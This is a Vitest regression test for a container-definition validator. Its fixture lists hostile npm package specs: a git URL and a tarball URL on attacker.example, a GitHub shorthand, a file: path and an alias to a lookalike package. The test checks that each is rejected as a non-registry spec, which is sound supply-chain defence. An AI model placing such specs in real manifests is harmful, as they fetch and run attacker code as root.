import { rmSync } from "node:fs";
import { afterAll, expect, it } from "vitest";
import { makeRepo, runCli } from "../cli/runCli.js";

/**
 * Attack: npm specs that install code from outside the registry: a git URL, GitHub shorthand,
 * a tarball URL, a `file:` path, an alias. Each passed validation and went into the deploy's
 * `npm install -g`, which runs the fetched package's install scripts as root in the container.
 * Now only registry packages (name or @scope/name, optional version, range or tag) pass.
 */
const repo = makeRepo(
  {
    "containers/billing-api.yml": `apiVersion: hostroot/v1
name: billing-api
platform: debian-12
packages:
  npm:
    - "git+https://attacker.example/cli.git"
    - "attacker/cli"
    - "https://attacker.example/cli-1.0.0.tgz"
    - "file:/srv/cli"
    - "lodash@npm:attacker-lodash"
    - "@acme/billing-cli@^2.1.0"
`,
  },
  { definitionsPath: "containers" },
);
afterAll(() => rmSync(repo, { recursive: true, force: true }));

it("refuses npm specs that do not name a registry package", async () => {
  const run = await runCli(["validate"], { cwd: repo });
  expect(run.code).toBe(1);
  const errors = run.stdout.split("\n").filter((l) => l.includes("  error  "));
  expect(errors.map((l) => l.split("  ")[0])).toEqual(
    [6, 7, 8, 9, 10].map((n) => `containers/billing-api.yml:${n}:7`),
  );
  for (const l of errors) expect(l).toMatch(/packages\/npm-spec$/);
});
